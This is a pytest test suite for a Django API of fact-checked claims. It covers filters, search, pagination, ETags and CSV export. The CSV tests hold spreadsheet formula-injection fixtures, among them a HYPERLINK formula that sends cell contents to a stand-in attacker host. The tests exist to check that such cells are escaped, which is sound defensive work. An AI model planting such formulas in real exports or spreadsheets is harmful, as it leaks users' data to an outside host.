import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.db import connection
from rest_framework.test import APIClient

from claims.models import Claim, ClaimLink
from claims.ratings import Status
from claims.services.exports import (
    CSV_COLUMNS,
    PUBLIC_CSV_COLUMNS,
    csv_rows,
    written_csv,
)
from tests.factories import (
    ClaimFactory,
    ClaimLinkFactory,
    DocumentFactory,
    FigureClaimFactory,
    MetricFactory,
    PersonAliasFactory,
    PersonFactory,
    PublisherFactory,
)

pytestmark = pytest.mark.django_db

CLAIMS = "/api/v1/claims/"


@pytest.fixture
def api():
    return APIClient()


@pytest.fixture
def editor_api(superuser):
    client = APIClient()
    client.force_login(superuser)
    return client


def ids(response) -> list[int]:
    assert response.status_code == 200, response.content
    return [claim["id"] for claim in response.json()["results"]]


def test_claim_carries_document_speaker_metric_and_figure(api):
    publisher = PublisherFactory(name="AVIM")
    document = DocumentFactory(
        publisher=publisher, title="Iran's Relations with Russia"
    )
    speaker = PersonFactory(name="Mehdi Sanaei")
    metric = MetricFactory(name="Iran-Russia trade", slug="iran-russia-trade")
    claim = FigureClaimFactory(document=document, speaker=speaker, metric=metric)

    body = api.get(f"{CLAIMS}{claim.pk}/").json()

    assert body["document"] == {
        "id": document.pk,
        "title": "Iran's Relations with Russia",
        "url": document.url,
        "publisher_name": "AVIM",
        "published_on": "2013-04-23",
        "published_precision": "day",
    }
    assert body["speaker"] == {"id": speaker.pk, "name": "Mehdi Sanaei"}
    assert body["metric"] == {
        "id": metric.pk,
        "slug": "iran-russia-trade",
        "name": "Iran-Russia trade",
    }
    assert body["figure"] == {
        "value": "5300000000.000000",
        "value_upper": None,
        "unit": "USD",
        "comparator": "approximately",
        "period_start": "2012-03-20",
        "period_end": "2013-03-20",
        "period_label": "last year",
        "period_resolution": "",
        "change_percent": None,
        "change_comparator": "exact",
        "display": "$5.3 billion (approx.)",
    }
    assert body["status"] == "unverified"
    assert {"rationale", "created_at", "updated_at"} <= set(body)


def test_claim_without_figure_has_null_figure(api):
    claim = ClaimFactory()
    assert api.get(f"{CLAIMS}{claim.pk}/").json()["figure"] is None


# Filters -------------------------------------------------------------------


def test_status_filter_takes_several_statuses(api):
    disputed = ClaimFactory(status=Status.DISPUTED)
    false = ClaimFactory(status=Status.FALSE)
    ClaimFactory(status=Status.UNVERIFIED)
    assert sorted(ids(api.get(CLAIMS, {"status": "disputed,false"}))) == sorted(
        [disputed.pk, false.pk]
    )


def test_bad_status_value_is_a_400_naming_the_parameter(api):
    response = api.get(CLAIMS, {"status": "disputed,bogus"})
    assert response.status_code == 400
    assert "status" in response.json()


@pytest.mark.parametrize(
    ("parameter", "value"),
    [
        ("document", "abc"),
        ("claimed_after", "2013-13-45"),
        ("value_min", "lots"),
        ("updated_since", "yesterday"),
        ("has_conflicts", "maybe"),
        ("period_overlaps_start", "0000-00-00"),
    ],
)
def test_bad_filter_values_are_400_naming_the_parameter(api, parameter, value):
    response = api.get(CLAIMS, {parameter: value})
    assert response.status_code == 400
    assert parameter in response.json()


def test_document_publisher_and_speaker_filters(api):
    publisher = PublisherFactory()
    document = DocumentFactory(publisher=publisher)
    speaker = PersonFactory()
    in_document = ClaimFactory(document=document)
    by_speaker = ClaimFactory(speaker=speaker)
    ClaimFactory()
    assert ids(api.get(CLAIMS, {"document": document.pk})) == [in_document.pk]
    assert ids(api.get(CLAIMS, {"publisher": publisher.pk})) == [in_document.pk]
    assert ids(api.get(CLAIMS, {"speaker": speaker.pk})) == [by_speaker.pk]
    assert ids(api.get(CLAIMS, {"speaker": speaker.pk, "document": document.pk})) == []


def test_metric_filter_takes_id_or_slug(api):
    metric = MetricFactory(slug="iran-russia-trade")
    wanted = FigureClaimFactory(metric=metric)
    FigureClaimFactory()
    assert ids(api.get(CLAIMS, {"metric": "iran-russia-trade"})) == [wanted.pk]
    assert ids(api.get(CLAIMS, {"metric": str(metric.pk)})) == [wanted.pk]
    assert ids(api.get(CLAIMS, {"metric": "no-such-metric"})) == []


def test_claimed_date_range_filter(api):
    early = ClaimFactory(claimed_on=datetime.date(2013, 4, 23))
    late = ClaimFactory(claimed_on=datetime.date(2014, 5, 1))
    assert ids(api.get(CLAIMS, {"claimed_after": "2014-01-01"})) == [late.pk]
    assert ids(api.get(CLAIMS, {"claimed_before": "2013-12-31"})) == [early.pk]
    assert ids(
        api.get(CLAIMS, {"claimed_after": "2013-01-01", "claimed_before": "2013-12-31"})
    ) == [early.pk]


def test_period_overlap_filter(api):
    iranian_1391 = FigureClaimFactory(
        period_start=datetime.date(2012, 3, 20), period_end=datetime.date(2013, 3, 20)
    )
    years_2007_2009 = FigureClaimFactory(
        period_start=datetime.date(2007, 1, 1), period_end=datetime.date(2009, 12, 31)
    )
    in_2013 = {
        "period_overlaps_start": "2013-01-01",
        "period_overlaps_end": "2013-12-31",
    }
    assert ids(api.get(CLAIMS, in_2013)) == [iranian_1391.pk]
    in_2009_2012 = {
        "period_overlaps_start": "2009-06-01",
        "period_overlaps_end": "2012-06-01",
    }
    assert sorted(ids(api.get(CLAIMS, in_2009_2012))) == sorted(
        [iranian_1391.pk, years_2007_2009.pk]
    )


def test_value_range_and_unit_filters(api):
    big = FigureClaimFactory(value=Decimal("5300000000"), unit="USD")
    small = FigureClaimFactory(value=Decimal("1500000000"), unit="USD")
    cars = FigureClaimFactory(
        value=Decimal("12000"), unit="cars", comparator="more_than"
    )
    assert ids(api.get(CLAIMS, {"value_min": "2000000000"})) == [big.pk]
    assert ids(api.get(CLAIMS, {"value_max": "2000000000", "unit": "USD"})) == [
        small.pk
    ]
    assert ids(api.get(CLAIMS, {"unit": "cars"})) == [cars.pk]


def test_updated_since_filter(api):
    old = ClaimFactory()
    Claim.objects.filter(pk=old.pk).update(
        updated_at=datetime.datetime(2020, 1, 1, tzinfo=datetime.UTC)
    )
    fresh = ClaimFactory()
    assert ids(api.get(CLAIMS, {"updated_since": "2021-01-01T00:00:00Z"})) == [fresh.pk]


def test_has_conflicts_filter_finds_both_ends_of_a_contradicts_link(api):
    link = ClaimLinkFactory(relation=ClaimLink.Relation.CONTRADICTS)
    corroborated = ClaimLinkFactory(relation=ClaimLink.Relation.CORROBORATES)
    lonely = ClaimFactory()
    conflicted = sorted(ids(api.get(CLAIMS, {"has_conflicts": "true"})))
    assert conflicted == sorted([link.from_claim_id, link.to_claim_id])
    calm = set(ids(api.get(CLAIMS, {"has_conflicts": "false"})))
    assert calm == {corroborated.from_claim_id, corroborated.to_claim_id, lonely.pk}


# Search --------------------------------------------------------------------


def test_search_finds_text_quote_speaker_alias_and_document_title(api):
    sanaei = PersonFactory(name="Mehdi Sanaei")
    PersonAliasFactory(person=sanaei, name="Mahdi Sanaei")
    by_text = ClaimFactory(text="Bilateral trade fell sharply.", quote="it fell")
    by_quote = ClaimFactory(text="A figure.", quote="exports of automobiles resumed")
    by_alias = ClaimFactory(text="A statement.", quote="we expect", speaker=sanaei)
    by_title = ClaimFactory(
        document=DocumentFactory(title="Caspian environment agreement"),
        text="x",
        quote="y",
    )
    ClaimFactory(text="Nothing relevant here.", quote="nothing")

    assert ids(api.get(CLAIMS, {"q": "trade"})) == [by_text.pk]
    assert ids(api.get(CLAIMS, {"q": "automobiles"})) == [by_quote.pk]
    assert ids(api.get(CLAIMS, {"q": "Mahdi"})) == [by_alias.pk]
    assert ids(api.get(CLAIMS, {"q": "Caspian"})) == [by_title.pk]
    assert ids(api.get(CLAIMS, {"q": "zanzibar"})) == []


def test_search_ranks_text_matches_above_quote_matches_on_postgres(api, on_postgres):
    in_quote = ClaimFactory(text="A claim about something.", quote="trade figures")
    in_text = ClaimFactory(
        text="Trade volume, trade balance and trade partners.", quote="q"
    )
    found = ids(api.get(CLAIMS, {"q": "trade", "ordering": "-rank"}))
    assert found == [in_text.pk, in_quote.pk]


def test_search_uses_stemming_on_postgres(api, on_postgres):
    claim = ClaimFactory(text="Iran began exporting automobiles.", quote="exporting")
    assert ids(api.get(CLAIMS, {"q": "exports"})) == [claim.pk]


# Ordering and pagination ---------------------------------------------------


def test_ordering_by_period_start_puts_claims_in_time_order(api):
    later = FigureClaimFactory(
        period_start=datetime.date(2012, 3, 20), period_end=datetime.date(2013, 3, 20)
    )
    earlier = FigureClaimFactory(
        period_start=datetime.date(2009, 1, 1), period_end=datetime.date(2009, 12, 31)
    )
    undated = ClaimFactory()
    assert ids(api.get(CLAIMS, {"ordering": "period_start"})) == [
        undated.pk,
        earlier.pk,
        later.pk,
    ]
    assert ids(api.get(CLAIMS, {"ordering": "-period_start"})) == [
        later.pk,
        earlier.pk,
        undated.pk,
    ]


@pytest.mark.parametrize(
    "ordering", ["value", "-value", "claimed_on", "-updated_at", "id"]
)
def test_every_ordering_is_accepted(api, ordering):
    FigureClaimFactory.create_batch(2)
    assert len(ids(api.get(CLAIMS, {"ordering": ordering}))) == 2


def test_unknown_ordering_is_a_400(api):
    response = api.get(CLAIMS, {"ordering": "quote"})
    assert response.status_code == 400
    assert "ordering" in response.json()


def test_default_order_is_newest_first_and_stable(api):
    claims = ClaimFactory.create_batch(3)
    assert ids(api.get(CLAIMS)) == [claim.pk for claim in reversed(claims)]


@pytest.mark.parametrize("ordering", ["-id", "claimed_on", "value", "-period_start"])
def test_cursor_pages_cover_every_claim_once(api, ordering):
    for day in range(7):
        FigureClaimFactory(
            claimed_on=datetime.date(2013, 1, 1 + day % 3),
            value=Decimal(1000 + day % 2),
        )
    ClaimFactory.create_batch(2)  # no figure, no period: NULL sort keys
    seen, url = [], f"{CLAIMS}?page_size=2&ordering={ordering}"
    while url:
        page = api.get(url).json()
        seen += [claim["id"] for claim in page["results"]]
        url = page["next"]
    assert sorted(seen) == sorted(Claim.objects.values_list("pk", flat=True))
    assert len(seen) == len(set(seen)) == 9


def test_page_size_is_capped_at_200(api):
    ClaimFactory.create_batch(3)
    assert len(ids(api.get(CLAIMS, {"page_size": 1000}))) == 3
    assert len(ids(api.get(CLAIMS, {"page_size": 2}))) == 2


@pytest.mark.parametrize("page_size", [1, 200])
def test_list_query_count_does_not_depend_on_page_size(
    api, django_assert_num_queries, page_size
):
    for _ in range(5):
        FigureClaimFactory(speaker=PersonFactory())
    # The representation version, the page, the page's conflicts.
    with django_assert_num_queries(3):
        response = api.get(CLAIMS, {"page_size": page_size})
    assert len(response.json()["results"]) == min(page_size, 5)


# Conditional requests ------------------------------------------------------


def test_detail_and_list_carry_etags_and_if_none_match_gives_304(api):
    claim = ClaimFactory()
    for url in (f"{CLAIMS}{claim.pk}/", CLAIMS, "/api/v1/metrics/"):
        first = api.get(url)
        assert first.status_code == 200
        etag = first["ETag"]
        again = api.get(url, HTTP_IF_NONE_MATCH=etag)
        assert again.status_code == 304, url
        assert again.content == b""


def test_etag_changes_when_the_claim_changes(api):
    claim = ClaimFactory()
    before = api.get(f"{CLAIMS}{claim.pk}/")["ETag"]
    Claim.objects.filter(pk=claim.pk).update(text="Changed.")
    response = api.get(f"{CLAIMS}{claim.pk}/", HTTP_IF_NONE_MATCH=before)
    assert response.status_code == 200
    assert response["ETag"] != before


def test_stale_if_match_is_refused_with_412_and_changes_nothing(editor_api):
    claim = ClaimFactory(text="Original.")
    etag = editor_api.get(f"{CLAIMS}{claim.pk}/")["ETag"]
    first = editor_api.patch(
        f"{CLAIMS}{claim.pk}/", {"text": "First edit."}, HTTP_IF_MATCH=etag
    )
    assert first.status_code == 200
    assert first["ETag"] != etag

    second = editor_api.patch(
        f"{CLAIMS}{claim.pk}/", {"text": "Second edit."}, HTTP_IF_MATCH=etag
    )
    assert second.status_code == 412
    assert "changed since you read it" in second.json()["detail"]
    claim.refresh_from_db()
    assert claim.text == "First edit."

    stale_delete = editor_api.delete(f"{CLAIMS}{claim.pk}/", HTTP_IF_MATCH=etag)
    assert stale_delete.status_code == 412
    assert Claim.objects.filter(pk=claim.pk).exists()


# CSV -----------------------------------------------------------------------


def test_csv_export_matches_the_json_list_with_the_same_filters(api):
    FigureClaimFactory.create_batch(3, status=Status.DISPUTED)
    ClaimFactory(status=Status.UNVERIFIED)
    as_json = api.get(CLAIMS, {"status": "disputed", "page_size": 200}).json()[
        "results"
    ]

    response = api.get(CLAIMS, {"status": "disputed", "format": "csv"})

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response.streaming
    rows = list(
        csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode()))
    )
    assert sorted(int(row["id"]) for row in rows) == sorted(
        claim["id"] for claim in as_json
    )
    by_id = {claim["id"]: claim for claim in as_json}
    for row in rows:
        claim = by_id[int(row["id"])]
        assert row["text"] == claim["text"]
        assert row["quote"] == claim["quote"]
        assert Decimal(row["value"]) == Decimal(claim["figure"]["value"])
        assert row["unit"] == claim["figure"]["unit"]
        assert row["document__title"] == claim["document"]["title"]


def test_csv_export_has_every_claim_once_in_id_order(api):
    claims = ClaimFactory.create_batch(5)

    content = b"".join(api.get(CLAIMS, {"format": "csv"}).streaming_content)

    rows = list(csv.DictReader(io.StringIO(content.decode())))
    assert [int(row["id"]) for row in rows] == [claim.pk for claim in claims]


def test_python_csv_writer_streams_in_chunks(monkeypatch):
    monkeypatch.setattr("claims.services.exports.CSV_CHUNK_ROWS", 2)
    ClaimFactory.create_batch(5)

    chunks = list(written_csv(Claim.objects.order_by("id").values_list(*CSV_COLUMNS)))

    assert len(chunks) == 3  # header with rows 1-2, rows 3-4, row 5
    assert len(list(csv.reader(io.StringIO("".join(chunks))))) == 6


@pytest.mark.skipif(
    connection.vendor != "postgresql",
    reason="PostgreSQL-only behaviour; run with DATABASE_URL=postgres://...",
)
def test_copy_export_has_the_values_pythons_csv_writer_gives(editor_api):
    FigureClaimFactory(
        text='He said "about $5.3 billion",\nthen left.', speaker=PersonFactory()
    )
    FigureClaimFactory(value=Decimal("1.5"), unit="it's", rationale="")
    ClaimFactory(claimed_on=None, speaker_role="")
    formula_claim(value=Decimal("-5"), quote="''+1")
    queryset = csv_rows(Claim.objects.order_by("id"))
    written = list(
        csv.DictReader(io.StringIO("".join(written_csv(queryset)), newline=""))
    )

    # Staff's export: every column, the working notes' too.
    copied = b"".join(editor_api.get(CLAIMS, {"format": "csv"}).streaming_content)

    rows = list(csv.DictReader(io.StringIO(copied.decode(), newline="")))
    assert rows[-1]["text"] == "'" + FORMULA_CELLS["text"]
    assert rows[-1]["rationale"] == "'\r=2"
    assert rows[-1]["editor_note"] == "'\r=1"
    assert rows[-1]["quote"] == "'''+1"
    assert rows[-1]["value"] == "-5.000000"
    times = {"created_at", "updated_at"}
    assert [{k: v for k, v in r.items() if k not in times} for r in rows] == [
        {k: v for k, v in r.items() if k not in times} for r in written
    ]
    for row, expected in zip(rows, written, strict=True):
        for name in times:
            assert datetime.datetime.fromisoformat(
                row[name]
            ) == datetime.datetime.fromisoformat(expected[name])


FORMULA_CELLS = {
    "text": '=HYPERLINK("http://evil.example/?x="&A1)',
    "quote": "+1+1",
    "speaker_role": "-2+3",
    "unit": "@SUM(A1)",
    "period_label": "\t=1",
    "editor_note": "\r=1",
    "rationale": "\r=2",
}


def formula_claim(**overrides):
    """Return a claim whose every free-text export cell starts like a formula."""
    document = DocumentFactory(
        title="=1+2", publisher=PublisherFactory(name="@publisher")
    )
    return FigureClaimFactory(
        document=document,
        speaker=PersonFactory(name="-Speaker"),
        metric=MetricFactory(slug="-trade"),
        status=Status.DISPUTED,  # a verdict, so that it has a rationale
        **(FORMULA_CELLS | overrides),
    )


def test_csv_export_writes_cells_starting_like_a_formula_as_text(editor_api):
    claim = formula_claim(value=Decimal("-5"))

    # Staff's export, which has every text column (the working notes' too).
    content = b"".join(editor_api.get(CLAIMS, {"format": "csv"}).streaming_content)

    (row,) = csv.DictReader(io.StringIO(content.decode(), newline=""))
    for name, text in FORMULA_CELLS.items():
        assert row[name] == f"'{text}", name
    assert row["document__title"] == "'=1+2"
    assert row["document__publisher__name"] == "'@publisher"
    assert row["speaker__name"] == "'-Speaker"
    assert row["metric__slug"] == "'-trade"
    # Numbers stay numbers: only text cells are quoted.
    assert Decimal(row["value"]) == Decimal("-5")
    assert row["id"] == str(claim.pk)


def test_csv_export_adds_an_apostrophe_to_apostrophes_before_a_formula(api):
    FigureClaimFactory(text="'=1", quote="''-1", period_label="'quoted'")

    content = b"".join(api.get(CLAIMS, {"format": "csv"}).streaming_content)

    (row,) = csv.DictReader(io.StringIO(content.decode(), newline=""))
    # So that reading strips one apostrophe and gets the text back.
    assert (row["text"], row["quote"]) == ("''=1", "'''-1")
    assert row["period_label"] == "'quoted'"


def test_csv_export_leaves_other_text_as_it_is(api):
    FigureClaimFactory(
        text="Trade = 5, said -- someone", quote=" =1", period_label="5-6"
    )

    content = b"".join(api.get(CLAIMS, {"format": "csv"}).streaming_content)

    (row,) = csv.DictReader(io.StringIO(content.decode(), newline=""))
    assert row["text"] == "Trade = 5, said -- someone"
    assert row["quote"] == " =1"
    assert row["period_label"] == "5-6"
    assert row["speaker__name"] == ""  # no speaker


def test_csv_export_quotes_filter_values_it_writes_into_the_query(api):
    FigureClaimFactory(unit="it's")
    FigureClaimFactory(unit="USD")

    content = b"".join(
        api.get(CLAIMS, {"unit": "it's", "format": "csv"}).streaming_content
    )

    rows = list(csv.DictReader(io.StringIO(content.decode())))
    assert [row["unit"] for row in rows] == ["it's"]


def test_csv_export_of_no_claims_is_its_header(api, editor_api):
    chunks = list(api.get(CLAIMS, {"format": "csv"}).streaming_content)
    staff_chunks = list(editor_api.get(CLAIMS, {"format": "csv"}).streaming_content)

    assert b"".join(chunks).decode().splitlines() == [",".join(PUBLIC_CSV_COLUMNS)]
    assert b"".join(staff_chunks).decode().splitlines() == [",".join(CSV_COLUMNS)]
    assert "editor_note" in CSV_COLUMNS
    assert "editor_note" not in PUBLIC_CSV_COLUMNS


def test_csv_is_chosen_by_accept_header_too(api):
    ClaimFactory()
    response = api.get(CLAIMS, HTTP_ACCEPT="text/csv")
    assert response["Content-Type"].startswith("text/csv")
    lines = b"".join(response.streaming_content).decode().splitlines()
    assert lines[0].startswith("id,text,quote")
    assert len(lines) == 2


@pytest.mark.parametrize("q", ["O'Brien", "O'Brien 100%", "O'Brien \\"])
def test_search_terms_with_quotes_percent_signs_and_backslashes(api, q):
    wanted = ClaimFactory(text="O'Brien put growth at 100% \\ year on year.")
    ClaimFactory(text="Someone else spoke.")

    assert ids(api.get(CLAIMS, {"q": q})) == [wanted.pk]
